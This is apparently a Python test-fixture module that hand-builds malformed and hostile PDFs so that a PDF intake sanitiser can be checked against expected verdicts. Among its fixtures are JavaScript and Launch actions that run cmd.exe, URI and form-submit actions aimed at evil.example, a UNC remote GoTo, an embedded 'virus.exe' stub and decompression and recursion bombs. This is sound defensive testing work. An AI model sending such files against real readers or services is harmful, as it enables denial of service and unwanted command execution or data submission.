"""Small PDFs named for what is wrong with them, written byte by byte so that no library tidies them up.

`HOSTILE` maps a name to (maker, the word intake must give); `ODD` holds harmless files that must look the same after.
"""

import functools
import io
import zlib
from collections.abc import Callable

import pikepdf

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
TEXT = b"0 0.4 0 rg BT /F1 24 Tf 72 600 Td (Don xin xac nhan) Tj ET 72 400 200 80 re f"


def raw(objects: dict[int, bytes], *, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A file of these objects with a classic cross-reference table; object 1 is the catalogue."""
    out = bytearray(header)
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out) - max(0, header.find(b"%PDF-"))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out) - max(0, header.find(b"%PDF-"))
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (max(objects) + 1)
    for number in range(1, max(objects) + 1):
        if number in places:
            out += b"%010d 00000 n \n" % places[number]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (max(objects) + 1, trailer, start)
    return bytes(out)


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def flate(data: bytes, entries: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter /FlateDecode " + entries)


def one_page(
    *,
    catalogue: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"",
    content: bytes = TEXT,
    contents: bytes | None = None,
    media: bytes = b"/MediaBox [0 0 595 842]",
    more: dict[int, bytes] | None = None,
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    trailer: bytes = b"",
) -> bytes:
    """One A4 page with a line of text and a box, both green; the arguments are spliced into its dictionaries."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R %s /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> %s >>"
        % (media, resources, page),
        4: contents if contents is not None else stream(content),
        5: FONT,
    }
    return raw(objects | (more or {}), header=header, trailer=trailer)


def pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (10 + number) for number in range(count))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 595 842] >>" % (kids, count),
        4: stream(TEXT),
        5: FONT,
    }
    for number in range(count):
        objects[10 + number] = b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return raw(objects)


def _zeros(size: int) -> bytes:
    """`size` zero bytes packed with Flate, without holding them."""
    machine = zlib.compressobj(9)
    block = bytes(2**20)
    return b"".join(machine.compress(block) for _ in range(size // 2**20)) + machine.flush()


def encrypted(user: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(one_page())) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=user))
    return out.getvalue()


def only_attachments_locked() -> bytes:
    """The pages are open to everybody, and who wants to read what is attached needs a password."""
    lock = (
        b"<< /Filter /Standard /V 4 /R 4 /Length 128 /P -4 /O <%s> /U <%s> /StmF /Identity /StrF /Identity /EFF /StdCF "
        b"/CF << /StdCF << /CFM /AESV2 /AuthEvent /EFOpen /Length 16 >> >> >>" % (b"a1" * 32, b"b2" * 32)
    )
    spec = b"<< /Type /Filespec /F (x.pdf) /EF << /F 11 0 R >> >>"
    return one_page(
        catalogue=b"/Names << /EmbeddedFiles << /Names [(x.pdf) 10 0 R] >> >>",
        more={10: spec, 11: stream(b"\x01" * 64, b"/Type /EmbeddedFile"), 12: lock},
        trailer=b"/Encrypt 12 0 R /ID [<%s> <%s>]" % (b"c3" * 16, b"c3" * 16),
    )


def with_attachment() -> bytes:
    spec = b"<< /Type /Filespec /F (virus.exe) /UF (virus.exe) /EF << /F 11 0 R >> >>"
    return one_page(
        catalogue=b"/Names << /EmbeddedFiles << /Names [(virus.exe) 10 0 R] >> >> /AF [10 0 R]",
        page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 10 0 R >>]",
        more={10: spec, 11: stream(b"MZ", b"/Type /EmbeddedFile")},
    )


def with_rich_media() -> bytes:
    note = (
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] /RichMediaContent << /Assets << /Names "
        b"[(a.swf) << /Type /Filespec /F (a.swf) /EF << /F 11 0 R >> >>] >> >> >>"
    )
    return one_page(page=b"/Annots [%s]" % note, more={11: stream(b"FWS", b"/Type /EmbeddedFile")})


def with_form(
    *, need_appearances: bool = False, appearance: bool = True, value: bytes = b"(Nguyen)", shows: bytes = b"(Nguyen)"
) -> bytes:
    """A filled text field, shown by its own drawing."""
    drawing = b"/AP << /N 12 0 R >>" if appearance else b""
    return one_page(
        catalogue=b"/AcroForm << /Fields [10 0 R] /DA (/Helv 12 Tf 0 g) /NeedAppearances %s /DR << /Font << /Helv 5 0 R"
        b" >> >> /XFA [(template) 11 0 R] >>" % (b"true" if need_appearances else b"false"),
        page=b"/Annots [10 0 R]",
        more={
            10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ho_ten) /V %s /F 4 /Rect [72 500 272 530] %s "
            b"/DA (/Helv 12 Tf 0 g) /A << /S /SubmitForm /F (https://evil.example/) >> "
            b"/AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) >> >> >>" % (value, drawing),
            11: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
            12: stream(
                b"/Tx BMC BT /Helv 12 Tf 2 10 Td %s Tj ET EMC" % shows,
                b"/Type /XObject /Subtype /Form /BBox [0 0 200 30] /Resources << /Font << /Helv 5 0 R >> >>",
            ),
        },
    )


def signature(value: bytes = b"<3000>") -> bytes:
    return (
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 10 20 10] /Contents %s >>"
        % value
    )


def signed(*, inline: bool) -> bytes:
    """A file with a signature field; the signature itself is nonsense, which intake does not judge."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Sig1) /Rect [0 0 0 0] /V %s >>"
    more = {10: field % (signature() if inline else b"11 0 R")}
    if not inline:
        more[11] = signature()
    return one_page(catalogue=b"/AcroForm << /Fields [10 0 R] /SigFlags 3 >>", page=b"/Annots [10 0 R]", more=more)


def usage_rights(*, inline: bool) -> bytes:
    """A form that Acrobat was allowed to save: rights of a reader, nobody's approval."""
    if inline:
        return one_page(catalogue=b"/Perms << /UR3 %s >>" % signature())
    return one_page(catalogue=b"/Perms << /UR3 11 0 R >>", more={11: signature()})


HIDING = {
    "all-shown": b"/ON [10 0 R]",
    "listed": b"/OFF [10 0 R]",
    "unless-listed": b"/BaseState /OFF",
    "by-its-usage": b"/AS [<< /Event /View /OCGs [10 0 R] /Category [/View] >>]",
}
"""How the default view of `layered` shows or hides its red box."""


def layered(default: bytes, group: bytes = b"") -> bytes:
    """A green page with a red box on a layer, drawn inside marked content, as a form and by a membership."""
    usage = b"/Usage << /View << /ViewState /OFF >> >>" if b"/View" in default else group
    # Readers differ on usages: the plain list says the same.
    default += b" /OFF [10 0 R]" if b"/View" in default else b""
    box = b"1 0 0 rg 300 100 90 90 re f"
    return one_page(
        catalogue=b"/OCProperties << /OCGs [10 0 R] /D << %s >> >>" % default,
        content=TEXT + b" /OC /L BDC %s EMC /OC /M BDC 1 0 0 rg 400 100 90 90 re f EMC /X Do" % box,
        resources=b"/Properties << /L 10 0 R /M 11 0 R >> /XObject << /X 12 0 R >>",
        more={
            10: b"<< /Type /OCG /Name (x) /Intent /View %s >>" % usage,
            11: b"<< /Type /OCMD /OCGs [10 0 R] /P /AllOn >>",
            12: stream(b"1 0 0 rg 300 300 90 90 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /OC 10 0 R"),
        },
    )


def huge_kids(count: int = 1_000_000) -> bytes:
    return raw(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"3 0 R " * count, count),
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        }
    )


def page_loop() -> bytes:
    return raw(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        }
    )


def nested_forms(depth: int = 30, width: int = 10) -> bytes:
    """Forms that draw the next one ten times each: 10^30 drawings of nothing much."""
    more = {}
    for level in range(depth):
        below = b"/Resources << /XObject << /X %d 0 R >> >>" % (11 + level)
        more[10 + level] = stream(b"/X Do " * width, b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] " + below)
    more[10 + depth] = stream(b"0 0 500 500 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 600 900]")
    return one_page(content=b"/X Do", resources=b"/XObject << /X 10 0 R >>", more=more)


def many_strokes() -> bytes:
    """A hundred kilobytes that take any reader minutes to draw."""
    return one_page(contents=flate(b"0.3 w 0 0 m " + b"1 1 m 500 800 l 3 8 l S\n" * 2_000_000))


def self_recursive_form() -> bytes:
    form = stream(
        b"q /X Do Q " * 20,
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << /XObject << /X 10 0 R >> >>",
    )
    return one_page(content=TEXT + b" /X Do", resources=b"/XObject << /X 10 0 R >>", more={10: form})


def image(width: int, height: int, data: bytes, entries: bytes) -> bytes:
    return one_page(
        content=b"q 400 0 0 400 50 50 cm /Im Do Q",
        resources=b"/XObject << /Im 10 0 R >>",
        more={
            10: stream(data, b"/Type /XObject /Subtype /Image /Width %d /Height %d %s" % (width, height, entries)),
        },
    )


def many_objects(count: int) -> bytes:
    return one_page(more={number: b"null" if number % 2 else b"<< /A 1 >>" for number in range(10, 10 + count)})


def content_called_image() -> bytes:
    """The page's content says it is an image, to slip past the budget of what is unpacked."""
    return one_page(
        contents=stream(
            _zeros(100 * 2**20),
            b"/Filter /FlateDecode /Type /XObject /Subtype /Image /Width 9000 /Height 9000",
        ),
        resources=b"/XObject << /Im 4 0 R >>",
    )


@functools.cache
def object_stream_bomb(size: int = 600 * 2**20) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    at = len(out)
    data = zlib.compress(b"1 0 2 30 3 70 ", 9)
    machine = zlib.compressobj(9)
    inside = b"1 0 2 40 3 90 ".ljust(100) + b"<< /Type /Catalog /Pages 2 0 R >>".ljust(40)
    inside += b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".ljust(50) + b"<< /Type /Page /MediaBox [0 0 9 9] >>"
    data = machine.compress(inside)
    block = b" " * 2**20
    data += b"".join(machine.compress(block) for _ in range(size // 2**20)) + machine.flush()
    out += b"4 0 obj\n%s\nendobj\n" % stream(data, b"/Type /ObjStm /N 3 /First 100 /Filter /FlateDecode")
    start = len(out)
    table = b"".join(
        kind.to_bytes(1) + first.to_bytes(4) + second.to_bytes(2)
        for kind, first, second in [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, at, 0), (1, start, 0)]
    )
    out += b"5 0 obj\n%s\nendobj\n" % stream(table, b"/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R")
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def missing_content() -> bytes:
    """The content of the page is named but nowhere in the file, whose table is wrong as well."""
    return one_page().replace(b"/Contents 4 0 R", b"/Contents 9 0 R").replace(b"xref\n0 6", b"xref\n0 5")


def _action(action: bytes) -> bytes:
    return one_page(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [72 590 300 630] /A %s >>]" % action)


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "no-bytes": (lambda: b"", "empty"),
    "only-zero-bytes": (lambda: bytes(5000), "not-pdf"),
    "html": (lambda: b"<html><body>%s</body></html>" % (b"x" * 2000), "not-pdf"),
    "jpeg": (lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(3000), "not-pdf"),
    "wrong-header": (lambda: one_page(header=b"%PDX-1.7\n"), "not-pdf"),
    "header-only": (lambda: b"%PDF-1.7\n", "damaged"),
    "truncated-in-a-stream": (lambda: pages(20)[:600], "damaged"),
    "truncated-before-the-table": (lambda: (data := pages(20))[: data.rfind(b"xref\n0")], "damaged"),
    "truncated-update": (lambda: one_page() + b"4 0 obj\n<< /Length 900 >>\nstream\n0 0 9", "damaged"),
    "missing-content": (missing_content, "damaged"),
    "broken-content": (
        lambda: one_page(contents=stream(b"\x78\x9c\xff\xff\xff\xff", b"/Filter /FlateDecode")),
        "damaged",
    ),
    "no-pages": (lambda: raw({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] >>"}), "no-pages"),
    "no-page-tree": (lambda: raw({1: b"<< /Type /Catalog >>"}), "damaged"),
    "page-loop": (page_loop, "damaged"),
    "password": (lambda: encrypted("secret"), "password"),
    "empty-user-password": (lambda: encrypted(""), "clean"),
    "javascript-names": (
        lambda: one_page(
            catalogue=b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>"
        ),
        "active-removed",
    ),
    "javascript-escaped-name": (
        lambda: one_page(
            catalogue=b"/OpenAction << /#53 /J#61vaScript /J#53 10 0 R >>", more={10: stream(b"app.alert(1)")}
        ),
        "active-removed",
    ),
    "open-action-uri": (
        lambda: one_page(catalogue=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
        "active-removed",
    ),
    "page-action": (
        lambda: one_page(page=b"/AA << /O << /S /JavaScript /JS (1) >> >>"),
        "active-removed",
    ),
    "launch": (lambda: _action(b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>"), "active-removed"),
    "uri": (lambda: _action(b"<< /S /URI /URI (https://evil.example/) >>"), "active-removed"),
    "remote-goto": (
        lambda: _action(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>"),
        "active-removed",
    ),
    "chained-action": (
        lambda: _action(b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Launch /F (cmd.exe) >>] >>"),
        "active-removed",
    ),
    "attachment": (with_attachment, "active-removed"),
    "rich-media": (with_rich_media, "active-removed"),
    "xfa-and-submit-form": (with_form, "active-removed"),
    "postscript-xobject": (
        lambda: one_page(
            content=TEXT + b" /P Do",
            resources=b"/XObject << /P 10 0 R >>",
            more={10: stream(b"(%stdin) run", b"/Type /XObject /Subtype /PS")},
        ),
        "active-removed",
    ),
    "external-stream": (
        lambda: one_page(
            contents=stream(TEXT, b"/F << /Type /Filespec /FS /URL /F (https://evil.example/) >> /FFilter /FlateDecode")
        ),
        "active-removed",
    ),
    "script-in-a-colour-space": (
        lambda: one_page(
            resources=b"/ColorSpace << /C [/ICCBased 10 0 R] >>",
            more={10: stream(b"x", b"/N 3 /AA << /O << /S /JavaScript /JS (1) >> >> /AF [<< /EF << /F 4 0 R >> >>]")},
        ),
        "active-removed",
    ),
    "html-polyglot": (lambda: one_page(header=b"<html><script>alert(1)</script><!--\n%PDF-1.7\n"), "clean"),
    "flate-bomb": (
        lambda: one_page(contents=stream(_zeros(200 * 2**20), b"/Filter /FlateDecode")),
        "too-complex",
    ),
    "flate-bomb-in-a-font": (
        lambda: one_page(
            resources=b"/XObject << >>",
            more={
                5: b"<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor 10 0 R >>",
                10: b"<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 11 0 R >>",
                11: stream(_zeros(200 * 2**20), b"/Filter /FlateDecode"),
            },
        ),
        "too-complex",
    ),
    "flate-in-flate": (
        lambda: one_page(
            contents=stream(zlib.compress(_zeros(300 * 2**20), 9), b"/Filter [/FlateDecode /FlateDecode]")
        ),
        "too-complex",
    ),
    "content-called-image": (content_called_image, "too-complex"),
    "object-stream-bomb": (object_stream_bomb, "too-complex"),
    "huge-image": (
        lambda: image(32768, 32768, _zeros(2**20), b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"),
        "too-complex",
    ),
    "jpeg-larger-than-it-says": (
        lambda: image(
            10,
            10,
            b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x11\x00\x02\x11\x00\x03\x11\x00\xff\xd9",
            b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
        ),
        "too-complex",
    ),
    "huge-page": (lambda: one_page(media=b"/MediaBox [0 0 8000 8000] /UserUnit 2"), "too-complex"),
    "million-kids": (huge_kids, "too-many-pages"),
    "301-pages": (lambda: pages(301), "too-many-pages"),
    "many-objects": (lambda: many_objects(250_000), "too-complex"),
    "nested-forms": (nested_forms, "too-complex"),
    "many-strokes": (many_strokes, "too-slow"),
    "self-recursive-form": (self_recursive_form, "too-complex"),
    "signature": (lambda: signed(inline=False), "signed"),
    "signature-written-inline": (lambda: signed(inline=True), "signed"),
    "usage-rights": (lambda: usage_rights(inline=False), "clean"),
    "usage-rights-written-inline": (lambda: usage_rights(inline=True), "clean"),
    "deep-arrays": (lambda: one_page(catalogue=b"/Deep %s%s" % (b"[" * 400, b"]" * 400)), "clean"),
}

ODD: dict[str, Callable[[], bytes]] = {
    "plain": one_page,
    "junk-before": lambda: one_page(header=b"\r\n\r\nX-Scanner: 1\r\n\r\n%PDF-1.4\n"),
    "junk-after": lambda: one_page() + b"\r\n" + b"\0" * 3000,
    "wrong-table": lambda: one_page().replace(b"startxref\n", b"startxref\n9"),
    "swapped-corners": lambda: one_page(media=b"/MediaBox [595 842 0 0]"),
    "negative-origin": lambda: one_page(media=b"/MediaBox [-20 -30 575 812]"),
    "crop-box": lambda: one_page(media=b"/MediaBox [0 0 595 842] /CropBox [50 50 500 700]"),
    "turned": lambda: one_page(page=b"/Rotate -90"),
    "unbalanced-q": lambda: one_page(content=b"q q " + TEXT),
    "contents-in-pieces": lambda: one_page(more={10: stream(b"0 0 1 rg 72 200 50 50 re f")}).replace(
        b"/Contents 4 0 R", b"/Contents [10 0 R 4 0 R]"
    ),
    "lzw-content": lambda: one_page(contents=stream(lzw(TEXT), b"/Filter /LZWDecode")),
    "armoured-content": lambda: one_page(
        contents=stream(zlib.compress(TEXT).hex().encode() + b">", b"/Filter [/ASCIIHexDecode /FlateDecode]")
    ),
    "pages-inherit": lambda: pages(3),
    "resource-names-like-actions": lambda: one_page(
        content=b"/A gs BT /F1 24 Tf 72 600 Td (x) Tj ET /JS Do",
        resources=b"/ExtGState << /A << /ca 0.5 >> >> /XObject << /JS 10 0 R >>",
        more={10: stream(b"1 0 0 rg 100 100 90 90 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 600 900]")},
    ),
    "picture": lambda: image(
        2, 2, zlib.compress(bytes(range(12))), b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode"
    ),
    "soft-mask-and-pattern": lambda: one_page(
        content=b"/Pattern cs /P scn 50 50 300 300 re f /G gs 0 0 1 rg 100 400 300 200 re f",
        resources=b"/Pattern << /P 10 0 R >> /ExtGState << /G << /SMask << /S /Luminosity /G 11 0 R >> >> >>",
        more={
            10: stream(
                b"1 0 0 rg 0 0 5 5 re f",
                b"/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 10 /YStep 10 /Resources << >>",
            ),
            11: stream(
                b"0.5 g 0 0 600 900 re f",
                b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Group << /S /Transparency /CS /DeviceGray >>",
            ),
        },
    ),
    "type-3-font": lambda: one_page(
        content=b"BT /T 20 Tf 72 600 Td (aa) Tj ET",
        more={
            5: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] /FontMatrix [0.1 0 0 0.1 0 0] /FirstChar 97 "
            b"/LastChar 97 /Widths [12] /Encoding << /Differences [97 /A] >> /CharProcs << /A 10 0 R >> >>",
            10: stream(b"12 0 0 0 10 10 d1 0 0 10 10 re f"),
        },
    ).replace(b"/F1 5 0 R", b"/T 5 0 R "),
    "nothing-on-it": lambda: one_page(content=b""),
}


def lzw(data: bytes) -> bytes:
    """LZW without using the table: every byte its own code, cleared before codes grow to ten bits."""
    codes = []
    for place, byte in enumerate(data):
        if place % 200 == 0:
            codes.append(256)
        codes.append(byte)
    bits = "".join(f"{code:09b}" for code in [*codes, 257])
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8)
